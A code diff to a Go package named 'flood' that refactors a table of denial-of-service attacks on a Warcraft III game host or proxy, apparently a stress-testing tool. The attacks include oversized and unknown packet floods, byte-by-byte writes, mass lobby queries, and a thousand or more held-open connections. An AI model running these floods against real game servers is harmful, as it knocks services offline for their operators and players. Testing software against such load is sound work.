@@ -3,6 +3,7 @@
 package flood
 
 import (
+	"cmp"
 	"context"
 	"encoding/binary"
 	"fmt"
@@ -34,17 +35,17 @@ type Attack struct {
 
 // Attacks are all.
 var Attacks = []Attack{
-	{"whole map reports", inLobby(1, func(p *player) { p.flood((&w3gs.MapSize{Flag: w3gs.MapHave, Size: p.size}).AppendTo(nil)) })},
-	{"parts never sent", inLobby(1, func(p *player) {
+	{"whole map reports", inLobby(func(p *player) { p.flood((&w3gs.MapSize{Flag: w3gs.MapHave, Size: p.size}).AppendTo(nil)) })},
+	{"parts never sent", inLobby(func(p *player) {
 		p.flood((&w3gs.MapPartOK{To: p.pid, From: 1, Size: 1442}).AppendTo(nil))
 	})},
-	{"unknown packets of 64 KB", inLobby(1, func(p *player) { p.flood(frame(0x77, 65535)) })},
-	{"small unknown packets", inLobby(1, func(p *player) { p.flood(frame(0x77, 4)) })},
-	{"packets behind a leave", inLobby(1, func(p *player) {
+	{"unknown packets of 64 KB", inLobby(func(p *player) { p.flood(frame(0x77, 65535)) })},
+	{"small unknown packets", inLobby(func(p *player) { p.flood(frame(0x77, 4)) })},
+	{"packets behind a leave", inLobby(func(p *player) {
 		_, _ = p.Write((&w3gs.LeaveGame{Reason: w3gs.LeaveLost}).AppendTo(nil))
 		p.flood(frame(0x77, 65535))
 	})},
-	{"a packet byte by byte", inLobby(1, func(p *player) {
+	{"a packet byte by byte", inLobby(func(p *player) {
 		for _, b := range frame(0x77, 65535) {
 			if _, err := p.Write([]byte{b}); err != nil {
 				return
@@ -57,15 +58,7 @@ var Attacks = []Attack{
 		}
 	})},
 	{"questions for lobbies", many(16, func(_ context.Context, t Target) {
-		c := connect(t, somewhere())
-		if c == nil {
-			return
-		}
-		defer c.Close()
-		if _, err := c.Write(gproxy.List{Format: gproxy.ListFormat}.AppendTo(nil)); err == nil {
-			_ = c.SetReadDeadline(time.Now().Add(time.Second))
-			_, _ = io.Copy(io.Discard, c)
-		}
+		ask(t, somewhere(), gproxy.List{Format: gproxy.ListFormat}.AppendTo(nil))
 	})},
 	{"silent connections", hold(1200, func(net.Conn) {})},
 	{"refused joins", hold(1200, func(c net.Conn) {
@@ -73,19 +66,7 @@ var Attacks = []Attack{
 		_, _ = c.Write(join.AppendTo(nil))
 	})},
 	{"wrong keys", many(4, func(_ context.Context, t Target) {
-		c := connect(t, oneAddress)
-		if c == nil {
-			return
-		}
-		defer c.Close()
-		pid := t.PID
-		if pid == 0 {
-			pid = uint8(1 + rand.N(12))
-		}
-		if _, err := c.Write(returns(pid, rand.Uint32(), 0)); err == nil {
-			_ = c.SetReadDeadline(time.Now().Add(time.Second))
-			_, _ = io.Copy(io.Discard, c)
-		}
+		ask(t, oneAddress, returns(cmp.Or(t.PID, uint8(1+rand.N(12))), rand.Uint32(), 0))
 	})},
 	{"returns", returning},
 }
@@ -129,6 +110,19 @@ func connect(t Target, from string) *net.TCPConn {
 	}
 	_ = c.(*net.TCPConn).SetLinger(0) // or its port could not be used again for a minute
 	return c.(*net.TCPConn)
+}
+
+// ask opens a connection, asks something, and takes what comes for a second.
+func ask(t Target, from string, question []byte) {
+	c := connect(t, from)
+	if c == nil {
+		return
+	}
+	defer c.Close()
+	if _, err := c.Write(question); err == nil {
+		_ = c.SetReadDeadline(time.Now().Add(time.Second))
+		_, _ = io.Copy(io.Discard, c)
+	}
 }
 
 // many does something again and again, several at a time.
